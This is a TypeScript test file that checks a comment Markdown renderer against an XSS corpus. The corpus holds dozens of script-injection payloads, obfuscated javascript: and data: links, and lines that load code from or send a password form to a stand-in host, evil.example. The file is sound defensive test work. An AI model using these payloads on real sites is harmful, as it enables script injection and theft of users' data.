/**
 * Comment Markdown against an XSS corpus: whatever the input, the HTML holds only the listed tags
 * and attributes, every link goes to http, https, mailto or a relative address, and nothing a
 * browser would run survives. The checker reads the output as a browser's tokenizer would see
 * markdown-it's well-formed HTML: every `<` starts a tag it knows, every attribute is listed.
 */
import { test } from "node:test";
import assert from "node:assert/strict";
import markdownIt from "markdown-it";
import { LINK_REL, renderCommentMarkdown, safeLinkTarget, sanitiseTokens } from "./markdown.ts";

const TAGS = new Set(["p", "br", "strong", "em", "s", "a", "code", "pre", "blockquote", "ul", "ol", "li", "h1", "h2", "h3", "h4", "h5", "h6", "hr", "table", "thead", "tbody", "tr", "th", "td"]);
const ATTRS: Record<string, Record<string, RegExp>> = {
  a: { href: /^/, title: /^/, rel: new RegExp(`^${LINK_REL}$`) },
  ol: { start: /^\d+$/ },
  th: { style: /^text-align:(left|center|right)$/ },
  td: { style: /^text-align:(left|center|right)$/ },
};

const decode = (s: string) =>
  s
    .replace(/&#x([0-9a-f]+);/gi, (_, h: string) => String.fromCodePoint(parseInt(h, 16)))
    .replace(/&#(\d+);/g, (_, d: string) => String.fromCodePoint(Number(d)))
    .replace(/&quot;/g, '"')
    .replace(/&lt;/g, "<")
    .replace(/&gt;/g, ">")
    .replace(/&amp;/g, "&");

/** Every problem a browser could turn into running code or a request the reader did not make. */
function problems(html: string): string[] {
  const found: string[] = [];
  const tags = [...html.matchAll(/<(\/?)([a-zA-Z][a-zA-Z0-9]*)((?:\s+[a-z-]+="[^"]*")*)\s*(\/?)>/g)];
  const lt = (html.match(/</g) ?? []).length;
  if (lt !== tags.length) found.push(`${lt - tags.length} '<' outside a well-formed listed tag`);
  for (const [, close, name, attrs] of tags) {
    const tag = name.toLowerCase();
    if (!TAGS.has(tag)) found.push(`tag <${tag}>`);
    if (close && attrs) found.push(`attributes on </${tag}>`);
    for (const [, attr, raw] of attrs.matchAll(/\s+([a-z-]+)="([^"]*)"/g)) {
      const rule = ATTRS[tag]?.[attr];
      const value = decode(raw);
      if (!rule || !rule.test(value)) found.push(`<${tag} ${attr}="${raw}">`);
      if (tag === "a" && attr === "href") {
        if (!safeLinkTarget(value)) found.push(`href ${value}`);
        // eslint-disable-next-line no-control-regex
        if (/^[\s\u0000-\u001f]*(javascript|vbscript|data|file):/i.test(value.replace(/[\t\n\r]/g, ""))) found.push(`href ${value}`);
      }
    }
  }
  return found;
}

/** Inputs that try to run script or load something, each in every form Markdown offers. */
const CORPUS: string[] = [
  // raw HTML: tags, event handlers, SVG, frames, styles, forms, comments, CDATA
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<scr<script>ipt>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<img src=x onerror=alert(1)//",
  '<a href="javascript:alert(1)">x</a>',
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  "<iframe src=javascript:alert(1)></iframe>",
  "<object data=javascript:alert(1)>",
  "<embed src=data:text/html,<script>alert(1)</script>>",
  "<style>body{display:none}</style>",
  "<link rel=stylesheet href=//evil.example/x.css>",
  "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
  "<base href=//evil.example/>",
  "<form action=//evil.example><input name=password></form>",
  "<details open ontoggle=alert(1)>",
  "<div style=\"background:url(javascript:alert(1))\">x</div>",
  "<!-- <script>alert(1)</script> -->",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<div>\n<script>alert(1)</script>\n</div>",
  "    <script>indented code</script>",
  "```html\n<script>alert(1)</script>\n```",
  "```js\" onmouseover=\"alert(1)\n1\n```",
  "`<img src=x onerror=alert(1)>`",
  // inline links in every spelling of a bad scheme
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x]( javascript:alert(1) )",
  "[x](<javascript:alert(1)>)",
  "[x](javascript&colon;alert(1))",
  "[x](&#106;avascript:alert(1))",
  "[x](&#x6A;avascript:alert(1))",
  "[x](&#0000106;avascript:alert(1))",
  "[x](java&#9;script:alert(1))",
  "[x](java&#10;script:alert(1))",
  "[x](java&#13;script:alert(1))",
  "[x](&#1;javascript:alert(1))",
  "[x](\u0001javascript:alert(1))",
  "[x](java\\\nscript:alert(1))",
  "[x](javascript://%0aalert(1))",
  "[x](vbscript:msgbox(1))",
  "[x](file:///etc/passwd)",
  "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[x](data:image/svg+xml,<svg onload=alert(1)>)",
  "[x](data:image/png;base64,iVBORw0KGgo=)",
  '[x](https://ok.example "a" onmouseover="alert(1)")',
  "[x](https://ok.example 'it\\'s\" onmouseover=alert(1) x=\"')",
  // reference links and definitions
  "[x][r]\n\n[r]: javascript:alert(1)",
  "[x]\n\n[x]: javascript:alert(1) \"title\"",
  "[x][r]\n\n[r]: <javascript:alert(1)>",
  "[x][r]\n\n[r]: &#106;avascript:alert(1)",
  // autolinks and bare URLs
  "<javascript:alert(1)>",
  "<JAVASCRIPT:alert(1)>",
  "<data:text/html,<script>alert(1)</script>>",
  "<vbscript:msgbox(1)>",
  "javascript:alert(1)",
  "see javascript:alert(1) and data:text/html,x",
  "<http://ok.example/\" onmouseover=\"alert(1)>",
  "https://ok.example/\"><script>alert(1)</script>",
  // images: never rendered, whatever the target
  "![x](https://tracker.example/pixel.png)",
  "![x](javascript:alert(1))",
  "![x](data:image/png;base64,iVBORw0KGgo=)",
  '![x](x" onerror="alert(1))',
  "[![x](https://tracker.example/p.png)](javascript:alert(1))",
  // nesting: markup inside link text, links inside links, emphasis around HTML
  "[<img src=x onerror=alert(1)>](https://ok.example)",
  "[[a](javascript:alert(1))](https://ok.example)",
  "[a [b](https://ok.example) c](javascript:alert(1))",
  "**<script>alert(1)</script>**",
  "*[x](javascript:alert(1))*",
  "> <script>alert(1)</script>\n> [x](javascript:alert(1))",
  "- [x](javascript:alert(1))\n  - <img src=x onerror=alert(1)>",
  "| a | b |\n|---|---|\n| <script>alert(1)</script> | [x](javascript:alert(1)) |",
  "| a |\n|:-:|\n| b |",
  // entities that spell markup
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#60;script&#62;alert(1)&#60;/script&#62;",
  "&#x3C;img src=x onerror=alert(1)&#x3E;",
  "\\<script>alert(1)\\</script>",
  // deep nesting stops at the renderer's limit instead of growing without bound
  `${"> ".repeat(200)}deep`,
  `${"[".repeat(500)}x${"](https://ok.example)".repeat(500)}`,
  `${"*".repeat(1000)}x${"*".repeat(1000)}`,
];

test("every input of the XSS corpus renders with listed tags and attributes only, and no unsafe link", () => {
  for (const input of CORPUS) {
    const html = renderCommentMarkdown(input);
    assert.deepEqual(problems(html), [], `${JSON.stringify(input)} rendered ${JSON.stringify(html)}`);
    assert.doesNotMatch(html, /<(script|img|svg|iframe|object|embed|style|link|meta|base|form|input|details|div|math)\b/i, JSON.stringify(input));
  }
});

test("the checker itself finds what it looks for", () => {
  assert.notDeepEqual(problems('<p><a href="javascript:alert(1)">x</a></p>'), []);
  assert.notDeepEqual(problems('<img src="x">'), []);
  assert.notDeepEqual(problems('<p onclick="x">y</p>'), []);
  assert.notDeepEqual(problems("<p>a <b</p>"), []);
  assert.notDeepEqual(problems('<a href="java&#x09;script:alert(1)" rel="nofollow noopener ugc">x</a>'), []);
  assert.deepEqual(problems('<p><a href="https://ok.example" rel="nofollow noopener ugc">x</a></p>'), []);
});

test("script and HTML stay visible as text", () => {
  assert.equal(renderCommentMarkdown("<script>alert(1)</script>"), "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>\n");
  assert.equal(renderCommentMarkdown("<img src=x onerror=alert(1)>"), "<p>&lt;img src=x onerror=alert(1)&gt;</p>\n");
  assert.equal(renderCommentMarkdown("[x](javascript:alert(1))"), "<p>[x](javascript:alert(1))</p>\n");
  assert.equal(renderCommentMarkdown("![x](https://tracker.example/p.png)"), '<p>!<a href="https://tracker.example/p.png" rel="nofollow noopener ugc">x</a></p>\n');
});

test("ordinary Markdown renders: emphasis, code, lists, quotes, tables, links with rel nofollow noopener ugc", () => {
  assert.equal(renderCommentMarkdown("**bold** _em_ ~~gone~~ `code`"), "<p><strong>bold</strong> <em>em</em> <s>gone</s> <code>code</code></p>\n");
  assert.equal(renderCommentMarkdown("a\nb"), "<p>a<br>\nb</p>\n", "a newline is a line break, as in comments elsewhere");
  assert.equal(renderCommentMarkdown("```python\nprint(1)\n```"), "<pre><code>print(1)\n</code></pre>\n", "no language class: the author's text stays out of attributes");
  assert.equal(renderCommentMarkdown("3. c\n4. d"), '<ol start="3">\n<li>c</li>\n<li>d</li>\n</ol>\n');
  assert.equal(renderCommentMarkdown("[docs](https://ok.example/a?b=1&c=2)"), '<p><a href="https://ok.example/a?b=1&amp;c=2" rel="nofollow noopener ugc">docs</a></p>\n');
  assert.equal(renderCommentMarkdown("see https://ok.example."), '<p>see <a href="https://ok.example" rel="nofollow noopener ugc">https://ok.example</a>.</p>\n');
  assert.equal(renderCommentMarkdown("<mailto:a@ok.example>"), '<p><a href="mailto:a@ok.example" rel="nofollow noopener ugc">mailto:a@ok.example</a></p>\n');
  assert.equal(renderCommentMarkdown("[run](/p/levhub/hello)"), '<p><a href="/p/levhub/hello" rel="nofollow noopener ugc">run</a></p>\n');
  assert.match(renderCommentMarkdown("| a | b |\n|:-|-:|\n| 1 | 2 |"), /<th style="text-align:left">a<\/th>\n<th style="text-align:right">b<\/th>/);
  assert.equal(renderCommentMarkdown('[x](https://ok.example "say \\"hi\\"")'), '<p><a href="https://ok.example" title="say &quot;hi&quot;" rel="nofollow noopener ugc">x</a></p>\n');
});

test("safeLinkTarget: http, https, mailto and relative addresses; every other scheme, however spelt, is refused", () => {
  for (const ok of ["https://ok.example", "HTTP://ok.example", "mailto:a@ok.example", "/p/x", "#frag", "?q=1", "page", "//ok.example/x", "a/b:c"]) assert.equal(safeLinkTarget(ok), true, ok);
  for (const bad of [
    "javascript:alert(1)", "JavaScript:alert(1)", " javascript:alert(1)", "\u0001javascript:alert(1)", "\u0000javascript:x", "java\tscript:x", "java\nscript:x", "java\rscript:x",
    "vbscript:x", "data:text/html,x", "data:image/png;base64,x", "file:///etc/passwd", "ftp://ok.example", "blob:https://ok.example/x", "livescript:x", "x-unknown:y", "a\u0001b",
  ]) {
    assert.equal(safeLinkTarget(bad), false, JSON.stringify(bad));
  }
});

test("the token allowlist alone stops raw HTML and bad links, should the parser's own settings ever let them through", () => {
  // a parser configured as carelessly as possible: raw HTML on, every link accepted, images on
  const careless = markdownIt("default", { html: true, linkify: true });
  careless.validateLink = () => true;
  const render = (src: string) => {
    const tokens = sanitiseTokens(careless.parse(src, {}));
    return careless.renderer.render(tokens, careless.options, {});
  };
  for (const input of CORPUS) {
    const html = render(input);
    assert.deepEqual(problems(html), [], `${JSON.stringify(input)} rendered ${JSON.stringify(html)}`);
  }
  assert.equal(render("[x](javascript:alert(1)) ok"), "<p>x ok</p>\n", "a refused link keeps its text, as text");
  assert.equal(render("<b>bold</b>"), "<p>&lt;b&gt;bold&lt;/b&gt;</p>\n");
  assert.equal(render("![i](https://tracker.example/p.png)"), "<p>i</p>\n", "an image token is not listed: its alternative text stays");
});
